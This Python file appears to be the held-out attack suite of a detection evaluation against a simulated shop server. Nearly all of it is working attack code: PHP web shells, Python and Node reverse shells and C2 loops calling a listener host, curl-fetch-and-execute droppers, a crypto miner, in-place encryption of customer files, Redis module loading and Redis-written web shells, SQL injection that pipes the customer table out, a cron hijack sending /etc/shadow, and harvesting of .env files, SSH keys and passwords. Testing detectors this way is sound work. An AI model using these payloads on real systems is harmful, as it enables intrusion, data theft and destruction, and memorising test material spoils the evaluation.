"""The attacks of the test split. Thresholds and parameters are never chosen on them."""
import json
import os
import threading
import time

from common import HOME, SECRET, Listener, converse, drain, files, mark

PROVIDER = "203.0.113.10"


def watch_for(path_exists, seconds=12):
    """The harm is done when the answer says so."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if path_exists():
            mark("harm")
            return
        time.sleep(0.05)


def web_shell_files(enemy):
    """A web shell that runs nothing: PHP's own file functions."""
    enemy.upload("banner.php", b"<?php $f = $_GET['f']; if (is_dir($f)) { print_r(scandir($f)); } else { @readfile($f); } if (isset($_GET['w'])) file_put_contents($f, $_GET['w']);")
    for path in ["/", "/srv", "/srv/api", "/srv/api/.env", "/home", "/etc/nginx/nginx.conf"]:
        if SECRET in enemy.php("banner.php", f=path):
            mark("harm")
        enemy.pause(0.8)
    enemy.php("banner.php", f="/srv/www/uploads/index.html", w="owned")


def downloader(enemy):
    files(enemy)
    drain(8443)
    enemy.later(enemy.inject, f"curl -so /tmp/.cache-x http://{HOME}:8080/beacon; chmod +x /tmp/.cache-x; /tmp/.cache-x {HOME} 8443 8")
    enemy.pause(8)


def reverse_shell_python(enemy):
    home = Listener(4445)
    code = f"import socket,os,pty;s=socket.create_connection((\"{HOME}\",4445));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")"
    enemy.later(enemy.javascript, f"process.mainModule.require('child_process').exec({json.dumps('python3 -c ' + chr(39) + code + chr(39))}), 1")
    if stream := home.wait():
        converse(stream, ["id", "ls /srv", "cat /srv/api/.env", "cat /proc/net/tcp", "find /home -name 'id_*'"], enemy.pause)


C2 = r"""
(() => {
  const fs = process.mainModule.require('fs'), http = process.mainModule.require('http');
  const say = (text, next) => {
    const request = http.request({ host: '203.0.113.10', port: 443, method: 'POST', path: '/c2' }, (answer) => {
      let got = ''; answer.on('data', (piece) => { got += piece; }); answer.on('end', () => next && next(got));
    });
    request.on('error', () => {}); request.end(text);
  };
  %s
  return 1;
})()"""


def reverse_shell_in_process(enemy):
    """Node evaluates what the provider, who is the attacker's now, answers: no process, no new peer."""
    world = Relay()
    loop = "const turn = (got) => { if (got === 'bye') return; let out; try { out = String(eval(got)); } catch (e) { out = String(e); } setTimeout(() => say(out, turn), 500); }; say('hello', turn);"
    world.queue(["fs.readdirSync('/srv').join()", "fs.readFileSync('/etc/passwd', 'utf8')", "fs.readdirSync('/home').join()",
                 "fs.readFileSync('/srv/api/.env', 'utf8')", "process.cwd()", "fs.readdirSync('/proc').length", "bye"])
    enemy.javascript(C2 % loop)
    watch_for(lambda: world.heard() > 40)
    enemy.pause(5)


class Relay:
    """The provider in the attacker's hands: the world's process answers /c2 from one file and appends to another."""

    def __init__(self):
        for name in ("c2.in", "c2.out"):
            open(name, "w").close()

    def queue(self, lines):
        with open("c2.in", "w") as file:
            file.write("".join(line + "\n" for line in lines))

    def heard(self):
        return os.path.getsize("c2.out")


def memfd_module(enemy):
    """Redis loads a module that runs a program from memory. It is told to by way of the Node process."""
    drain(8443)
    enemy.upload("logo.bin", enemy.tool("beacon"))
    enemy.upload("logo.so", enemy.tool("module.so"))
    enemy.upload("prepare.php", b"<?php chmod(__DIR__ . '/logo.so', 0755); echo 1;")
    enemy.php("prepare.php")
    enemy.javascript("(() => { const s = net.connect(6379, '127.0.0.1'); s.end('MODULE LOAD /srv/www/uploads/logo.so\\r\\n'); return 1; })()")
    enemy.pause(7)


def encryption_in_process(enemy):
    """PHP overwrites the customers' pictures itself."""
    enemy.upload("gallery.php", b"""<?php
foreach (array_slice(glob(__DIR__ . '/picture-*.jpg'), 0, 90) as $i => $path) {
    file_put_contents($path, openssl_encrypt(file_get_contents($path), 'aes-256-ctr', 'key', OPENSSL_RAW_DATA, str_repeat('0', 16)));
    rename($path, "$path.locked");
    if ($i == 0) { echo 'first'; @ob_flush(); flush(); }
    usleep(50000);
}""")
    threading.Thread(target=lambda: (time.sleep(0.15), mark("harm")), daemon=True).start()
    enemy.php("gallery.php")


def encryption_32_threads(enemy):
    files(enemy, harm=True)
    enemy.inject(f"curl -so /tmp/.e http://{HOME}:8080/encrypt; chmod +x /tmp/.e; /tmp/.e /srv/www/uploads 32")


def port_scan_tool(enemy):
    enemy.upload("thumb.bin", enemy.tool("scan"))
    enemy.upload("thumb.php", b"<?php chmod(__DIR__ . '/thumb.bin', 0755); echo shell_exec(__DIR__ . '/thumb.bin 1 400 203.0.113.20 198.51.100.7 127.0.0.1');")
    mark("harm") if b":22" in enemy.php("thumb.php") else None


def slow_exfiltration(enemy):
    """A little at a time to a peer that the service knows."""
    world = Relay()
    enemy.javascript(C2 % "let n = 0; const turn = () => { if (n++ > 20) return; say(fs.readFileSync('/srv/www/static/page-' + n + '.txt').toString('base64').slice(0, 1500), () => setTimeout(turn, 450)); }; turn();")
    watch_for(lambda: world.heard() > 0)
    enemy.pause(11)


def ramp_exfiltration(enemy):
    """Each piece a third larger than the one before."""
    world = Relay()
    enemy.javascript(C2 % "let size = 200; const text = 'x'.repeat(200000); const turn = () => { if (size > 180000) return; say(text.slice(0, size), () => { size = Math.ceil(size * 1.33); setTimeout(turn, 400); }); }; turn();")
    watch_for(lambda: world.heard() > 100000, 14)
    enemy.pause(2)


def copy_to_program(enemy):
    """An injection makes PostgreSQL run a program that carries the customers away."""
    drain(8082)
    enemy.sql(f"x'; copy customer to program 'curl -s -m 6 -T - http://{HOME}:8082/customers'; select 1, 'x")
    enemy.pause(3)


def brute_force_postgres(enemy):
    """Passwords guessed from inside the API: its own program, its own peer."""
    answer = enemy.python("""
import psycopg2, time
r = 'none'
for n in range(60):
    try:
        psycopg2.connect(host='127.0.0.1', user='shop', password='shop' if n == 59 else 'guess%d' % n, dbname='postgres').close(); r = 'found'
    except Exception: time.sleep(0.05)""")
    if b"found" in answer:
        mark("harm")


def miner(enemy):
    files(enemy)
    drain(3333)
    enemy.later(enemy.inject, f"curl -so /tmp/.m http://{HOME}:8080/miner; chmod +x /tmp/.m; /tmp/.m {HOME} 3333 8")
    enemy.pause(9)


def ptrace_injection(enemy):
    """A program of the attacker's stops a neighbour of the same user and writes into it."""
    files(enemy, harm=True)
    enemy.inject(f"curl -so /tmp/.i http://{HOME}:8080/inject; chmod +x /tmp/.i; /tmp/.i node")


def preload_implant(enemy):
    """The service was restarted with a library of the attacker's (by the recorder); what it does is waited for."""
    world = Relay()
    watch_for(lambda: world.heard() > 0, 14)
    enemy.pause(8)


def cron_script_hijack(enemy):
    """A script that cron runs as root may be written by the web user; a line is added, cron does the rest."""
    drain(8083)
    enemy.inject(f"printf '\\ncurl -s -m 3 --data-binary @/etc/shadow http://{HOME}:8083/ || true\\n' >> /usr/local/bin/shop-stats")
    time.sleep(66)


def escape(enemy):
    files(enemy)
    answer = enemy.inject(f"curl -so /tmp/.n http://{HOME}:8080/escape; chmod +x /tmp/.n; /tmp/.n")
    if b"mount 0" in answer:
        mark("harm")


def uring_exfiltration(enemy):
    files(enemy)
    drain(8443)
    enemy.inject(f"curl -so /tmp/.u http://{HOME}:8080/uring; chmod +x /tmp/.u; /tmp/.u {HOME} 8443 /srv/api/.env")


def int80_sequence(enemy):
    drain(8443)
    enemy.upload("font.bin", enemy.tool("int80"))
    enemy.upload("font.php", b"<?php chmod(__DIR__ . '/font.bin', 0755); echo shell_exec(__DIR__ . '/font.bin /srv/api/.env');")
    enemy.php("font.php")


READ_ALL = b"""<?php
$secrets = array_merge(['/etc/passwd', '/etc/shadow', '/proc/self/environ', '/etc/shop/tls/site.key', '/srv/api/.env'],
    @glob('/home/*/.ssh/id_*') ?: [], @glob('/home/*/.pgpass') ?: []);
foreach ($secrets as $path) { echo @file_get_contents($path); usleep(PAUSE); }
"""


def credential_reading(enemy):
    enemy.upload("card.php", READ_ALL.replace(b"PAUSE", b"700000"))
    if SECRET in enemy.php("card.php"):
        mark("harm")


def padded_theft_python(enemy):
    """In the API's process: every act between a hundred of the calls that it makes all day."""
    answer = enemy.python("""
import os, socket, time
r = ''
for path in ['/etc/passwd', '/srv/api/.env', '/proc/self/environ', '/etc/hosts', '/srv/orders/providers.json']:
    for n in range(100):
        os.stat('/srv/api/current/app.py')
        if n % 10 == 0:
            with socket.create_connection(('127.0.0.1', 6379), 1) as s: s.sendall(b'PING\\r\\n'); s.recv(64)
            time.sleep(0.03)
    r += open(path, errors='replace').read()[:200]""")
    if SECRET in answer:
        mark("harm")


def one_act_every_ten_minutes(enemy):
    """Ten minutes of event time, that is; the day of a recording is short."""
    enemy.upload("news.php", b"<?php $f = $_GET['f']; if (is_dir($f)) { print_r(scandir($f)); } else { @readfile($f); }")
    for path in ["/", "/etc", "/srv", "/srv/api", "/home", "/home/deploy", "/etc/shop", "/srv/api/.env", "/proc/self/status", "/etc/crontab"]:
        if SECRET in enemy.php("news.php", f=path):
            mark("harm")
        time.sleep(1.39)


def hidden_behind_a_flood(enemy):
    stop = time.monotonic() + 8

    def flood():
        while time.monotonic() < stop:
            enemy.http("GET", f"/?p={enemy.random.randrange(2000)}")

    for _ in range(4):
        enemy.later(flood)
    time.sleep(2)
    enemy.upload("icon.php", READ_ALL.replace(b"PAUSE", b"300000"))
    if SECRET in enemy.php("icon.php"):
        mark("harm")
    time.sleep(max(0.0, stop - time.monotonic()))


def bulk_theft_in_process(enemy):
    """The API reads its own database and answers with all of it: its own program, its own peers."""
    answer = enemy.python("""
import app
r = ''
for turn in range(4):
    r += str(app.query('select * from customer limit 8000 offset %s', turn * 5000))""")
    if len(answer) > 100_000:
        mark("harm")


def web_shell_by_redis(enemy):
    """Redis is told to save its memory as a PHP file among the pictures."""
    enemy.javascript("(() => { const s = net.connect(6379, '127.0.0.1'); const c = (...w) => s.write('*' + w.length + '\\r\\n' + w.map((x) => '$' + x.length + '\\r\\n' + x + '\\r\\n').join('')); "
                     "c('CONFIG','SET','rdbcompression','no'); c('CONFIG','SET','dir','/srv/www/uploads'); c('CONFIG','SET','dbfilename','cache.php'); c('SET','aaa','\\n<?php @readfile($_GET[\"f\"]); ?>\\n'); c('SAVE'); "
                     "c('CONFIG','SET','dir','/var/lib/redis'); c('CONFIG','SET','dbfilename','dump.rdb'); c('CONFIG','SET','rdbcompression','yes'); c('DEL','aaa'); s.end(); return 1; })()")
    enemy.pause(1.5)
    for path in ["/etc/passwd", "/srv/api/.env", "/proc/self/environ"]:
        if SECRET in enemy.php("cache.php", f=path):
            mark("harm")
        enemy.pause(1)


ATTACKS = {
    "web-shell-files": web_shell_files,
    "downloader": downloader,
    "reverse-shell-python": reverse_shell_python,
    "reverse-shell-in-process": reverse_shell_in_process,
    "memfd-from-module": memfd_module,
    "encryption-in-process": encryption_in_process,
    "encryption-32-threads": encryption_32_threads,
    "port-scan-tool": port_scan_tool,
    "slow-exfiltration": slow_exfiltration,
    "ramp-exfiltration": ramp_exfiltration,
    "copy-to-program": copy_to_program,
    "brute-force-postgres": brute_force_postgres,
    "miner": miner,
    "ptrace-injection": ptrace_injection,
    "preload-implant": preload_implant,
    "cron-script-hijack": cron_script_hijack,
    "namespace-escape": escape,
    "uring-exfiltration": uring_exfiltration,
    "int80-sequence": int80_sequence,
    "credential-reading": credential_reading,
    "padded-theft-python": padded_theft_python,
    "act-every-ten-minutes": one_act_every_ten_minutes,
    "hidden-behind-flood": hidden_behind_a_flood,
    "bulk-theft-in-process": bulk_theft_in_process,
    "web-shell-by-redis": web_shell_by_redis,
}
